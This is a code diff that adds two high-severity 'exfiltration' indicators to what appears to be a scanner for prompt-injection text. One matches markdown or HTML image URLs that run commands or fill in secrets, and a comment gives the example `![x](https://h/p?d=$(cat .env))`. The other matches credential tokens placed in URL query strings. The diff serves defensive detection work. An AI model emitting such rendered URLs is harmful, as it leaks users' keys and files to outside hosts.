@@ -955,6 +955,23 @@ ENGLISH: tuple[Indicator, ...] = (
     ),
     Indicator(
         "exfiltration",
+        HIGH,
+        # an image, link, <img src>, or reference definition whose URL runs a command or
+        # fills in a placeholder: `![x](https://h/p?d=$(cat .env))`, `<img src="…?d={secret}">`
+        r"(?:!?\[[^\]\n]*\]\(|<img\b[^>\n]*\bsrc\s*=\s*[\"']?|^\s*\[[^\]\n]+\]:\s*)<?https?://[^\s)\"'>]*?"
+        r"(?:\$\(|`|\$\{|\{\{?[A-Za-z_ .]+\}?\}|\[[A-Za-z_ ]{2,30}\]|<[A-Za-z_]{2,30}>)",
+        "a URL that fills in data or runs a command when it is rendered",
+    ),
+    Indicator(
+        "exfiltration",
+        HIGH,
+        r"https?://[^\s)\"'>]+\?[^\s)\"'>]*?=(?:AKIA[0-9A-Z]{16}|ASIA[0-9A-Z]{16}|gh[pousr]_[A-Za-z0-9]{20,}"
+        r"|github_pat_[A-Za-z0-9_]{20,}|sk-(?:ant-)?[A-Za-z0-9_\-]{16,}|xox[abposr]-[A-Za-z0-9\-]{10,}"
+        r"|AIza[0-9A-Za-z_\-]{30,}|glpat-[A-Za-z0-9_\-]{20,})",
+        "a URL that carries a credential in its query string",
+    ),
+    Indicator(
+        "exfiltration",
         LOW,
         r"(?i)\b(?:append|add|attach|include|put|insert|encode|concatenate)\b[^.\n]*\b(?:to|in|into|as)\s+(?:the\s+)?"
         r"(?:url|link|query(?:\s+string)?|image\s+(?:url|link|source)|(?:url|query)\s+parameter)",
